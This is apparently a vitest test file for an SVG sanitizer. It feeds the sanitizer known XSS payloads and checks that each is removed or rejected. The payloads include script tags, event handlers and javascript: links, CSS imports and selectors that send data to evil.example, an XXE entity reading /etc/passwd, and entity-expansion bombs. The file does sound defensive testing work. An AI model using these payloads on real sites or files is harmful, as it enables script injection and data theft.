import fc from "fast-check";
import { SaxesParser } from "saxes";
import { describe, expect, it } from "vitest";
import { sanitizeSvg } from "../../src/attachments/svg.ts";

const clean = (text: string) => sanitizeSvg(Buffer.from(text));
const svg = (content: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"${attributes}>${content}</svg>`;
const refused = (reason: string): Error =>
  expect.objectContaining({ code: "svg", message: expect.stringContaining(reason) as string }) as Error;

/** Known XSS vectors from public collections: description, SVG content, and the content that the sanitizer keeps. */
const vectors: readonly (readonly [string, string, string])[] = [
  ["a script element", "<script>alert(1)</script>", ""],
  ["a script of another type", '<script type="text/ecmascript" href="data:,alert(1)"/>', ""],
  ["a script in another case", "<SCRIPT>alert(1)</SCRIPT>", ""],
  ["an XHTML script", '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>', ""],
  [
    "an XHTML script with a prefix",
    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
    "",
  ],
  ["a script with a prefix", '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>', ""],
  ["an event handler", '<rect onclick="alert(1)"/>', "<rect></rect>"],
  ["an event handler in another case", '<rect onLoad="alert(1)" ONMOUSEOVER="x"/>', "<rect></rect>"],
  [
    "an event handler after a prefix",
    '<rect xmlns:e="http://www.w3.org/2001/xml-events" e:onclick="x"/>',
    "<rect></rect>",
  ],
  [
    "an embedded HTML page",
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
    "",
  ],
  ["an iframe", '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>', ""],
  ["a javascript: link", '<a href="javascript:alert(1)"><text>x</text></a>', "<text>x</text>"],
  ["a javascript: xlink", '<a xlink:href="javascript:alert(1)"><rect/></a>', "<rect></rect>"],
  [
    "an escaped javascript: link",
    '<a xlink:href="&#106;avascript&#58;alert(1)"><rect/></a>',
    "<rect></rect>",
  ],
  [
    "a link that an animation sets",
    '<a><animate attributeName="href" values="javascript:alert(1)"/><rect/></a>',
    "<rect></rect>",
  ],
  [
    "an event handler that an animation sets",
    '<set attributeName="onmouseover" to="alert(1)"/><animate onbegin="alert(1)"/>',
    "",
  ],
  ["an external use element", '<use href="https://evil.example/x.svg#x"/>', "<use></use>"],
  ["an external use element with xlink", '<use xlink:href="//evil.example/x.svg#x"/>', "<use></use>"],
  [
    "a use element with a data: URL",
    '<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
    "<use></use>",
  ],
  [
    "a use element that references another document with a relative path",
    '<use href="other.svg#x"/>',
    "<use></use>",
  ],
  ["an external image", '<image href="https://evil.example/x.png"/>', "<image></image>"],
  ["an SVG file inside an image", '<image href="data:image/svg+xml;base64,PHN2Zy8+"/>', "<image></image>"],
  ["a javascript: image", '<image xlink:href="javascript:alert(1)"/>', "<image></image>"],
  [
    "a filter that loads a URL",
    '<filter><feImage href="https://evil.example/"/></filter>',
    "<filter></filter>",
  ],
  ["an external fill", '<rect fill="url(https://evil.example/x#y)"/>', "<rect></rect>"],
  ["an external filter after local filters", '<rect filter="url(#a) url(//evil.example)"/>', "<rect></rect>"],
  [
    "an external fill with spaces and quotation marks",
    "<rect fill=\"URL( 'https://evil.example' )\"/>",
    "<rect></rect>",
  ],
  [
    "an external fill hidden in CSS escapes",
    '<rect style="fill:\\75rl(https://evil.example)"/>',
    "<rect></rect>",
  ],
  [
    "an external fill hidden in a comment",
    '<rect style="fill:u/**/rl(https://evil.example)"/>',
    "<rect></rect>",
  ],
  [
    "an external fill hidden in another function",
    '<rect style="width:calc(url(https://evil.example))"/>',
    "<rect></rect>",
  ],
  ["an external image set", "<rect style=\"fill:image-set('https://evil.example' 1x)\"/>", "<rect></rect>"],
  ["a CSS expression", '<rect style="width:expression(alert(1))"/>', "<rect></rect>"],
  ["a CSS binding", '<rect style="-moz-binding:url(#x)"/>', "<rect></rect>"],
  ["a CSS import", "<style>@import 'https://evil.example/x.css';</style>", "<style></style>"],
  [
    "a CSS import in CDATA",
    "<style><![CDATA[@import url(https://evil.example);]]></style>",
    "<style></style>",
  ],
  [
    "a CSS import after a nested style element",
    "<style><style/>@import url(https://evil.example)</style>",
    "<style></style>",
  ],
  [
    "a CSS import split into pieces",
    "<style>@imp<g/>ort url(https://evil.example)</style>",
    "<style></style>",
  ],
  [
    "a style sheet with an external font",
    "<style>@font-face{font-family:x;src:url(https://evil.example)}</style>",
    "<style></style>",
  ],
  [
    "a style sheet that reads attributes",
    "<style>rect[id^=a]{fill:url(https://evil.example/a)}</style>",
    "<style></style>",
  ],
  [
    "a style sheet that closes its element",
    "<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>",
    "<style></style>",
  ],
  [
    "a style sheet processing instruction",
    '<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>',
    "",
  ],
  ["a base URL", '<rect xml:base="https://evil.example/"/>', "<rect></rect>"],
  [
    "an event listener",
    '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><listener/>',
    "",
  ],
  [
    "text that looks like markup",
    "<text>&lt;script>alert(1)&lt;/script></text>",
    "<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>",
  ],
  [
    "markup in an attribute",
    '<g id="&quot;>&lt;script>alert(1)&lt;/script>"/>',
    '<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"></g>',
  ],
  [
    "markup in CDATA",
    "<title><![CDATA[</title><script>alert(1)</script>]]></title>",
    "<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title>",
  ],
  ["a comment", "<!-- <script>alert(1)</script> -->", ""],
];

describe("the SVG sanitizer", () => {
  it.each(vectors)("removes %s", (_, content, remains) => {
    expect(clean(svg(content))).toBe(svg(remains));
  });

  it("removes event handlers of the root element", () => {
    expect(clean(svg("", ' onload="alert(1)" viewBox="0 0 1 1"'))).toBe(svg("", ' viewBox="0 0 1 1"'));
  });

  it("keeps ordinary drawings unchanged", () => {
    const drawing = svg(
      "<title>R &amp; C</title><style>.a{fill:url(#g);stroke:rgb(1,2,3)}@media (prefers-color-scheme: dark){.a{fill:#fff}}</style>" +
        '<defs><linearGradient id="g" x1="0" gradientTransform="rotate(45 1 2)"><stop offset="5%" stop-color="#f00"></stop></linearGradient></defs>' +
        '<g id="part" class="a b" transform="translate(1,2) scale(3)" style="fill:none;stroke:black"><path d="M0 0L1 1z" clip-path="url(#c)"></path></g>' +
        '<use xlink:href="#part" x="5"></use><use href="#part"></use>' +
        '<image width="1" xlink:href="data:image/png;base64,iVBORw0KGgo="></image><text xml:space="preserve"> Größe 5Ω </text>',
      ' width="5" viewBox="0 0 5 5"',
    );
    expect(clean(drawing)).toBe(drawing);
    expect(clean(clean(drawing))).toBe(drawing);
  });

  it("removes the private elements of drawing programs", () => {
    const inkscape = svg(
      '<sodipodi:namedview pagecolor="#fff"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata><g inkscape:label="Layer 1" id="l"/>',
      ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"',
    );
    expect(clean(inkscape)).toBe(svg('<g id="l"></g>'));
  });

  it("accepts SVG files without a namespace", () => {
    expect(clean('<svg><rect width="5" height="5"/></svg>')).toBe(svg('<rect width="5" height="5"></rect>'));
  });

  it("expands plain entities that drawing programs declare, and removes the document type", () => {
    const text =
      '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg"><!ENTITY who "me">]><svg xmlns="&ns_svg;"><text>&who;</text></svg>';
    expect(clean(text)).toBe(svg("<text>me</text>"));
  });

  it.each([
    [
      "nested entities",
      '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
    ],
    [
      "external entities",
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ],
    [
      "entities named like properties of Object.prototype",
      "<svg><text>&constructor;&__proto__;</text></svg>",
    ],
    ["a truncated file", "<svg><g>"],
    ["attributes without quotation marks, as in HTML", "<svg width=5><rect hidden/></svg>"],
    ["two root elements", "<svg/><svg/>"],
    ["an undeclared prefix", "<svg><x:script>alert(1)</x:script></svg>"],
  ])("rejects %s as not well-formed", (_, text) => {
    expect(() => clean(text)).toThrow(refused("not well-formed"));
  });

  it("rejects files that are not SVG", () => {
    expect(() => clean("<html/>")).toThrow(refused("root element"));
    expect(() => clean('<svg xmlns="http://www.w3.org/1999/xhtml"/>')).toThrow(refused("root element"));
    expect(() => clean("Hello")).toThrow(refused("not well-formed"));
    expect(() => sanitizeSvg(Buffer.from([0x3c, 0xff, 0x3e]))).toThrow(refused("not valid utf-8"));
  });

  it("rejects files that are too large, too deeply nested or expand too much", () => {
    expect(() => sanitizeSvg(Buffer.alloc(10_000_001, 32))).toThrow(refused("larger"));
    expect(() => clean(svg("<g>".repeat(300)))).toThrow(refused("nested deeper"));
    const entity = `<!DOCTYPE svg [<!ENTITY a "${"a".repeat(256)}">]>`;
    expect(() => clean(`${entity}<svg><text>${"&a;".repeat(100_000)}</text></svg>`)).toThrow(
      refused("expands"),
    );
  });

  it("rejects elements that reference each other recursively", () => {
    const doubling = Array.from(
      { length: 30 },
      (_, level) => `<g id="g${level + 1}"><use href="#g${level}"/><use xlink:href="#g${level}"/></g>`,
    );
    expect(() => clean(svg(doubling.join("")))).toThrow(refused("repeats"));
    expect(() => clean(svg('<g id="a"><use href="#a"/></g>'))).toThrow(refused("repeats"));
    expect(() => clean(svg('<use href="#a"/>'.repeat(2_001)))).toThrow(refused("repeats"));
    expect(clean(svg('<g id="a"/><use href="#a"/>'))).toContain("<use");
  });

  it("reads UTF-16 and other declared encodings", () => {
    expect(sanitizeSvg(Buffer.from(`\ufeff${svg("<text>Ω</text>")}`, "utf16le"))).toBe(svg("<text>Ω</text>"));
    expect(
      sanitizeSvg(
        Buffer.from(`<?xml version="1.0" encoding="ISO-8859-1"?>${svg("<text>ä</text>")}`, "latin1"),
      ),
    ).toBe(svg("<text>ä</text>"));
  });

  it("returns well-formed XML without active content for any input", () => {
    const names = fc.constantFrom(
      "g",
      "style",
      "script",
      "a",
      "use",
      "image",
      "text",
      "foreignObject",
      "animate",
      "title",
      "svg",
    );
    const attribute = fc.tuple(
      fc.constantFrom("href", "xlink:href", "onload", "style", "fill", "id", "class", "xml:base"),
      fc.constantFrom(
        "javascript:alert(1)",
        "#a",
        "url(//e)",
        "url(#a)",
        "a\"b'<&>\n",
        "@import 'x'",
        "\\75rl(x)",
      ),
    );
    const { node } = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { depthSize: "small" },
        fc.constantFrom("text", "&amp;lt;script>", "@import url(//e);", "<![CDATA[<script>]]>", "<!--x-->"),
        fc
          .tuple(
            names,
            fc.uniqueArray(attribute, { selector: ([name]) => name, maxLength: 3 }),
            fc.array(tie("node"), { maxLength: 4 }),
          )
          .map(([name, attributes, content]) => {
            const escape = (value: string) =>
              value.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll('"', "&quot;");
            return `<${name}${attributes.map(([key, value]) => ` ${key}="${escape(value)}"`).join("")}>${content.join("")}</${name}>`;
          }),
      ),
    }));
    fc.assert(
      fc.property(fc.array(node), (content) => {
        let output: string;
        try {
          output = clean(svg(content.join("")));
        } catch (error) {
          expect(error).toMatchObject({ code: "svg" });
          return;
        }
        const parser = new SaxesParser({ xmlns: true });
        let inStyle = false;
        parser.on("opentag", ({ local, attributes }) => {
          expect(["g", "style", "use", "image", "text", "title", "svg"]).toContain(local);
          inStyle = local === "style";
          for (const { name, value } of Object.values(attributes)) {
            expect(name).not.toMatch(/^on|base$/);
            if (name === "id" || name === "class" || name.startsWith("xmlns")) continue;
            expect(value).not.toMatch(/javascript|\/\/|import|\\/);
          }
        });
        parser.on("closetag", () => (inStyle = false));
        parser.on("text", (text) => inStyle && expect(text).not.toMatch(/import|\/\/|</));
        parser.write(output).close();
      }),
      { numRuns: 1_000 },
    );
  });
});
